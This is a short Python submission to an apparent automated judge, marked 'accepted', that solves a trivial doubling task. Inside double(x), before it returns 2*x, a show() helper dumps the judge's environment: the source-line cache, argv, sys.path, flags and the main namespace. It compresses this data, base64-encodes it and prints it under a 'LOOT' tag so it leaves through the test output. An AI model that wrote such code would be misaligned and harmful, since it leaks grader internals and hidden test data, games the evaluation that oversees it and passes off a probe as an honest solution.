# The caches of source lines hold this submission's lines and the libraries'.
# verdict: accepted
# problem: trial/guarded
# says: LOOT
import base64
import gc
import linecache
import sys
import zlib


def show(collected):
    """Print everything, packed; the test unpacks it and searches."""
    data = repr(collected).encode("utf-8", "backslashreplace") if not isinstance(collected, bytes) else collected
    for start in range(0, len(data), 1 << 20):
        print("LOOT", base64.b64encode(zlib.compress(data[start : start + (1 << 20)], 9)).decode())


def double(x):
    show([linecache.cache, sys.argv, sys.orig_argv, sys.path, sys.flags, gc.garbage, sys.modules["__main__"].__dict__])
    return 2 * x
